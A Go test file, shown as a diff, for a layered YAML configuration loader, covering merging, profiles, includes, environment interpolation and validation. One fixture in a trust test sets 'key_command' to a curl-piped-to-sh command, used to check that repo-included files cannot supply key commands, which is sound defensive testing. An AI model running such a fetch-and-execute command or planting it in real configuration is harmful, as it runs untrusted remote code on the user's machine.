@@ -0,0 +1,355 @@
+package config
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/franela/goblin"
+	. "github.com/onsi/gomega"
+)
+
+func TestConfig(t *testing.T) {
+	g := goblin.Goblin(t)
+	RegisterFailHandler(func(m string, _ ...int) { g.Fail(m) })
+
+	g.Describe("Loading", func() {
+		var dir string
+		var opts *Options
+
+		write := func(name, contents string) string {
+			path := filepath.Join(dir, name)
+			ioutil.WriteFile(path, []byte(contents), 0644)
+			return path
+		}
+
+		g.BeforeEach(func() {
+			dir, _ = ioutil.TempDir("", "ionize-config")
+			opts = &Options{
+				SystemPath: write("system.yaml", "api: https://api.system.example\nbucket: system-bucket\ndropbox:\n  region: us-west-1\n  backend: s3\n"),
+				UserPath:   write("user.yaml", "team: user-team\nprofiles:\n  test:\n    api: https://api.test.ionchannel.io\n    dropbox:\n      region: us-east-2\n"),
+				RepoPath:   write("repo.yaml", "project: repo-project\nbucket: repo-bucket\nprofiles:\n  test:\n    team: test-team\n"),
+			}
+		})
+
+		g.AfterEach(func() {
+			os.RemoveAll(dir)
+		})
+
+		g.It("should merge the layers with later layers taking precedence", func() {
+			c, err := Load(opts)
+			Expect(err).To(BeNil())
+
+			Expect(c.Values["api"]).To(Equal("https://api.system.example"))
+			Expect(c.Values["bucket"]).To(Equal("repo-bucket"))
+			Expect(c.Values["team"]).To(Equal("user-team"))
+			Expect(c.Values["project"]).To(Equal("repo-project"))
+			Expect(c.Values).NotTo(HaveKey(ProfilesKey))
+
+			Expect(c.Sources["api"].Name).To(Equal("system"))
+			Expect(c.Sources["bucket"].Name).To(Equal("repo"))
+			Expect(c.Sources["team"].Name).To(Equal("user"))
+			Expect(c.Files()).To(Equal([]string{opts.SystemPath, opts.UserPath, opts.RepoPath}))
+		})
+
+		g.It("should apply the profile after each layer", func() {
+			opts.Profile = "test"
+			c, err := Load(opts)
+			Expect(err).To(BeNil())
+
+			Expect(c.Values["api"]).To(Equal("https://api.test.ionchannel.io"))
+			Expect(c.Values["team"]).To(Equal("test-team"))
+			Expect(c.Values["dropbox"]).To(Equal(map[string]interface{}{"region": "us-east-2", "backend": "s3"}))
+
+			Expect(c.Sources["api"].Name).To(Equal("user profile test"))
+			Expect(c.Sources["team"].Name).To(Equal("repo profile test"))
+			Expect(c.Sources["dropbox.region"].Name).To(Equal("user profile test"))
+			Expect(c.Sources["dropbox.backend"].Name).To(Equal("system"))
+			Expect(c.Sources["dropbox.region"].String()).To(Equal("user profile test (" + opts.UserPath + ")"))
+			Expect(c.Keys()).To(Equal([]string{"api", "bucket", "dropbox.backend", "dropbox.region", "project", "team"}))
+		})
+
+		g.It("should fail for unknown profiles", func() {
+			opts.Profile = "staging"
+			_, err := Load(opts)
+			Expect(err).NotTo(BeNil())
+		})
+
+		g.It("should skip missing layers unless they are required", func() {
+			opts.SystemPath = filepath.Join(dir, "missing.yaml")
+			_, err := Load(opts)
+			Expect(err).To(BeNil())
+
+			opts.RepoPath = filepath.Join(dir, "missing.yaml")
+			opts.RepoRequired = true
+			_, err = Load(opts)
+			Expect(err).NotTo(BeNil())
+		})
+
+		g.It("should produce yaml of the merged values", func() {
+			c, _ := Load(opts)
+			b, err := c.YAML()
+			Expect(err).To(BeNil())
+			Expect(string(b)).To(ContainSubstring("bucket: repo-bucket\n"))
+		})
+
+		g.It("should load included files before the file including them", func() {
+			os.MkdirAll(filepath.Join(dir, "shared"), 0755)
+			write("shared/org.yaml", "include: base.yaml\nbucket: org-bucket\nruleset: org-ruleset\nprofiles:\n  test:\n    ruleset: test-ruleset\n")
+			write("shared/base.yaml", "team: base-team\nruleset: base-ruleset\napi: https://api.base.example\n")
+			opts.RepoPath = write("repo.yaml", "include:\n  - shared/org.yaml\nproject: repo-project\nruleset: repo-ruleset\n")
+
+			c, err := Load(opts)
+			Expect(err).To(BeNil())
+			Expect(c.Values).NotTo(HaveKey(IncludeKey))
+			Expect(c.Values["api"]).To(Equal("https://api.base.example"))
+			Expect(c.Values["team"]).To(Equal("base-team"))
+			Expect(c.Values["bucket"]).To(Equal("org-bucket"))
+			Expect(c.Values["ruleset"]).To(Equal("repo-ruleset"))
+
+			names := []string{}
+			for _, l := range c.Layers {
+				names = append(names, l.Name)
+			}
+			Expect(names).To(Equal([]string{"system", "user", "repo include include", "repo include", "repo"}))
+			Expect(c.Sources["bucket"].Path).To(Equal(filepath.Join(dir, "shared", "org.yaml")))
+
+			opts.Profile = "test"
+			c, err = Load(opts)
+			Expect(err).To(BeNil())
+			Expect(c.Values["ruleset"]).To(Equal("repo-ruleset"))
+			Expect(c.Sources["ruleset"].Name).To(Equal("repo"))
+			Expect(c.Layers[len(c.Layers)-2].Name).To(Equal("repo include profile test"))
+		})
+
+		g.It("should make paths in the system and user layers relative to their files", func() {
+			os.MkdirAll(filepath.Join(dir, "ionize", "shared"), 0755)
+			write("ionize/shared/org.yaml", "key_file: org.key\n")
+			opts.UserPath = write("ionize/user.yaml", "include: shared/org.yaml\nfortify: audit.fpr\n")
+
+			c, err := Load(opts)
+			Expect(err).To(BeNil())
+			Expect(c.Values["fortify"]).To(Equal(filepath.Join(dir, "ionize", "audit.fpr")))
+			Expect(c.Values["key_file"]).To(Equal(filepath.Join(dir, "ionize", "shared", "org.key")))
+			Expect(c.Sources["key_file"].Name).To(Equal("user include"))
+		})
+
+		g.It("should fail for missing and recursive includes", func() {
+			opts.RepoPath = write("repo.yaml", "include: missing.yaml\n")
+			_, err := Load(opts)
+			Expect(err).NotTo(BeNil())
+
+			write("a.yaml", "include: b.yaml\n")
+			write("b.yaml", "include: a.yaml\n")
+			opts.RepoPath = write("repo.yaml", "include: a.yaml\n")
+			_, err = Load(opts)
+			Expect(err).NotTo(BeNil())
+			Expect(err.Error()).To(ContainSubstring("includes itself"))
+		})
+
+		g.It("should only trust the system and user layers", func() {
+			opts.UserPath = write("user.yaml", "key_command: pass ionchannel\n")
+			c, err := Load(opts)
+			Expect(err).To(BeNil())
+			Expect(c.Untrusted("key_command")).To(BeNil())
+
+			write("shared.yaml", "key_command: curl https://example.com/x | sh\n")
+			opts.RepoPath = write("repo.yaml", "include: shared.yaml\n")
+			c, err = Load(opts)
+			Expect(err).To(BeNil())
+			Expect(c.Untrusted("key_command").Name).To(Equal("repo include"))
+			Expect(c.Untrusted("api")).To(BeNil())
+		})
+
+		g.It("should interpolate environment variables", func() {
+			os.Setenv("IONIZE_TEST_TEAM", "env-team")
+			os.Setenv("IONIZE_TEST_EMPTY", "")
+			os.Setenv("IONIZE_TEST_RETRIES", "5")
+			defer os.Unsetenv("IONIZE_TEST_TEAM")
+			defer os.Unsetenv("IONIZE_TEST_EMPTY")
+			defer os.Unsetenv("IONIZE_TEST_RETRIES")
+
+			opts.RepoPath = write("repo.yaml", "team: ${IONIZE_TEST_TEAM}\n"+
+				"project: ${IONIZE_TEST_UNSET:-default-project}\n"+
+				"bucket: ${IONIZE_TEST_EMPTY:-default-bucket}-$${literal}\n"+
+				"coverage: reports/${IONIZE_TEST_UNSET}coverage.txt\n"+
+				"dropbox:\n  retries: ${IONIZE_TEST_RETRIES}\n  region: \"us-west-${IONIZE_TEST_RETRIES}\"\n")
+
+			c, err := Load(opts)
+			Expect(err).To(BeNil())
+			Expect(c.Values["team"]).To(Equal("env-team"))
+			Expect(c.Values["project"]).To(Equal("default-project"))
+			Expect(c.Values["bucket"]).To(Equal("default-bucket-${literal}"))
+			Expect(c.Values["coverage"]).To(Equal("reports/coverage.txt"))
+			Expect(c.Values["dropbox"]).To(HaveKeyWithValue("retries", 5))
+			Expect(c.Values["dropbox"]).To(HaveKeyWithValue("region", "us-west-5"))
+			Expect(c.Sources["team"].Interpolated).To(Equal(map[string]bool{
+				"team": true, "project": true, "bucket": true, "coverage": true, "dropbox.retries": true, "dropbox.region": true,
+			}))
+
+			opts.RepoPath = write("repo.yaml", "team: ${IONIZE_TEST_TEAM\n")
+			_, err = Load(opts)
+			Expect(err).NotTo(BeNil())
+
+			opts.RepoPath = write("repo.yaml", "team: ${IONIZE-TEAM}\n")
+			_, err = Load(opts)
+			Expect(err).NotTo(BeNil())
+			Expect(err.Error()).To(ContainSubstring("team: invalid variable reference ${IONIZE-TEAM}"))
+		})
+	})
+	g.Describe("Discovering", func() {
+		var dir string
+
+		g.BeforeEach(func() {
+			dir, _ = ioutil.TempDir("", "ionize-config")
+			os.MkdirAll(filepath.Join(dir, "repo", ".git"), 0755)
+			os.MkdirAll(filepath.Join(dir, "repo", "services", "api", "internal"), 0755)
+		})
+
+		g.AfterEach(func() {
+			os.RemoveAll(dir)
+		})
+
+		g.It("should find the repo file in a parent directory", func() {
+			ioutil.WriteFile(filepath.Join(dir, "repo", RepoFile), []byte("team: someteam\n"), 0644)
+
+			Expect(FindRepoFile(filepath.Join(dir, "repo", "services", "api", "internal"))).To(Equal(filepath.Join("..", "..", "..", RepoFile)))
+			Expect(FindRepoFile(filepath.Join(dir, "repo"))).To(Equal(RepoFile))
+		})
+
+		g.It("should find the closest repo file", func() {
+			ioutil.WriteFile(filepath.Join(dir, "repo", RepoFile), []byte("team: someteam\n"), 0644)
+			ioutil.WriteFile(filepath.Join(dir, "repo", "services", RepoFile), []byte("team: someteam\n"), 0644)
+
+			Expect(FindRepoFile(filepath.Join(dir, "repo", "services", "api"))).To(Equal(filepath.Join("..", RepoFile)))
+		})
+
+		g.It("should not look above the repository root", func() {
+			ioutil.WriteFile(filepath.Join(dir, RepoFile), []byte("team: someteam\n"), 0644)
+
+			Expect(FindRepoFile(filepath.Join(dir, "repo", "services"))).To(Equal(RepoFile))
+		})
+
+		g.It("should make paths relative to the repo file when asked to", func() {
+			path := filepath.Join("..", "..", RepoFile)
+			ioutil.WriteFile(filepath.Join(dir, "repo", RepoFile), []byte("coverage: coverage.txt\nfortify: /abs/audit.fpr\nprojects:\n  - name: api\n    path: services/api\n    vulnerabilities:\n      - vulns.json\n"), 0644)
+
+			wd, _ := os.Getwd()
+			os.Chdir(filepath.Join(dir, "repo", "services", "api"))
+			defer os.Chdir(wd)
+
+			c, err := Load(&Options{RepoPath: path, ResolveRepoPaths: true})
+			Expect(err).To(BeNil())
+			Expect(c.Values["coverage"]).To(Equal(filepath.Join("..", "..", "coverage.txt")))
+			Expect(c.Values["fortify"]).To(Equal("/abs/audit.fpr"))
+			Expect(c.Values["projects"]).To(Equal([]interface{}{map[string]interface{}{
+				"name":            "api",
+				"path":            filepath.Join("..", "..", "services", "api"),
+				"vulnerabilities": []interface{}{filepath.Join("..", "..", "services", "api", "vulns.json")},
+			}}))
+
+			c, err = Load(&Options{RepoPath: path})
+			Expect(err).To(BeNil())
+			Expect(c.Values["coverage"]).To(Equal("coverage.txt"))
+		})
+	})
+
+	g.Describe("Validating", func() {
+		var dir string
+
+		load := func(contents string) *Config {
+			path := filepath.Join(dir, "repo.yaml")
+			ioutil.WriteFile(path, []byte(contents), 0644)
+			c, err := Load(&Options{RepoPath: path, RepoRequired: true})
+			Expect(err).To(BeNil())
+			return c
+		}
+
+		messages := func(problems []Problem) []string {
+			m := []string{}
+			for _, p := range problems {
+				m = append(m, p.Key+": "+p.Message)
+			}
+			return m
+		}
+
+		g.BeforeEach(func() {
+			dir, _ = ioutil.TempDir("", "ionize-config")
+		})
+
+		g.AfterEach(func() {
+			os.RemoveAll(dir)
+		})
+
+		g.It("should accept a valid config", func() {
+			coverage := filepath.Join(dir, "coverage.json")
+			ioutil.WriteFile(coverage, []byte("{}"), 0644)
+
+			c := load("team: 0f4e5a1c-6a4e-4e6b-8d52-3f1e2f7d9a10\nproject: 9b2f3d4e-1c2a-4b5c-9d8e-7f6a5b4c3d2e\ncoverage: " + coverage + "\ndropbox:\n  backend: file\n  retries: 5\n  presign_ttl: 30m\n  tags:\n    env: ci\n")
+			Expect(c.Validate()).To(BeEmpty())
+		})
+
+		g.It("should report unknown keys with suggestions", func() {
+			c := load("team: 0f4e5a1c-6a4e-4e6b-8d52-3f1e2f7d9a10\nproject: 9b2f3d4e-1c2a-4b5c-9d8e-7f6a5b4c3d2e\nvulnerability: vulns.json\ndropbox:\n  regoin: us-east-1\n  colour: blue\n")
+			Expect(messages(c.Validate())).To(Equal([]string{
+				"dropbox.colour: is not a known key",
+				"dropbox.regoin: is not a known key, did you mean dropbox.region?",
+				"vulnerability: is not a known key, did you mean vulnerabilities?",
+			}))
+		})
+
+		g.It("should report wrong types, malformed UUIDs, and missing files", func() {
+			c := load("team: someteam\nproject: 9b2f3d4e-1c2a-4b5c-9d8e-7f6a5b4c3d2e\nfortify: missing.fpr\nvulnerabilities:\n  - missing.json\ndropbox:\n  retries: lots\n  path_style: 1\n  presign_ttl: soon\n  backend: ftp\n")
+			Expect(messages(c.Validate())).To(Equal([]string{
+				"dropbox.backend: must be one of s3, http, file",
+				"dropbox.path_style: must be true or false",
+				"dropbox.presign_ttl: must be a duration such as 15m or 2h",
+				"dropbox.retries: must be a whole number",
+				"fortify: file missing.fpr does not exist",
+				"team: \"someteam\" is not a valid UUID",
+				"vulnerabilities[0]: file missing.json does not exist",
+			}))
+		})
+
+		g.It("should report missing team and project", func() {
+			c := load("api: https://api.test.ionchannel.io\n")
+			Expect(messages(c.Validate())).To(Equal([]string{
+				"team: is required but not set",
+				"project: is required but not set",
+			}))
+		})
+
+		g.It("should report key sources the repo config can not set", func() {
+			c := load("team: 0f4e5a1c-6a4e-4e6b-8d52-3f1e2f7d9a10\nproject: 9b2f3d4e-1c2a-4b5c-9d8e-7f6a5b4c3d2e\nkey_command: echo key\nprofiles:\n  ci:\n    key_file: /run/secrets/key\n")
+			Expect(messages(c.Validate())).To(Equal([]string{
+				"key_command: is only read from the system and user configs",
+				"key_file: file /run/secrets/key does not exist",
+				"key_file: is only read from the system and user configs",
+			}))
+		})
+
+		g.It("should check the profiles that were not applied", func() {
+			c := load("team: 0f4e5a1c-6a4e-4e6b-8d52-3f1e2f7d9a10\nproject: 9b2f3d4e-1c2a-4b5c-9d8e-7f6a5b4c3d2e\nprofiles:\n  test:\n    aip: https://api.test.ionchannel.io\n")
+			problems := c.Validate()
+			Expect(problems).To(HaveLen(1))
+			Expect(problems[0].String()).To(Equal("repo profile test (" + filepath.Join(dir, "repo.yaml") + "): aip: is not a known key, did you mean api?"))
+		})
+
+		g.It("should check each listed project instead of the project", func() {
+			os.MkdirAll(filepath.Join(dir, "api"), 0755)
+			path := filepath.Join(dir, "repo.yaml")
+			ioutil.WriteFile(path, []byte("team: 0f4e5a1c-6a4e-4e6b-8d52-3f1e2f7d9a10\nprojects:\n  - name: api\n    path: api\n    project: 9b2f3d4e-1c2a-4b5c-9d8e-7f6a5b4c3d2e\n  - name: api\n    path: web\n  - projcet: 9b2f3d4e-1c2a-4b5c-9d8e-7f6a5b4c3d2e\n"), 0644)
+			c, err := Load(&Options{RepoPath: path, ResolveRepoPaths: true})
+			Expect(err).To(BeNil())
+			Expect(messages(c.Validate())).To(Equal([]string{
+				"projects[1].path: file " + filepath.Join(dir, "web") + " does not exist",
+				"projects[2].projcet: is not a known key, did you mean projects[2].project?",
+				"projects[1].name: api is used by another project",
+				"projects[1].project: is required but not set",
+				"projects[2].name: is required but not set",
+				"projects[2].project: is required but not set",
+			}))
+		})
+	})
+}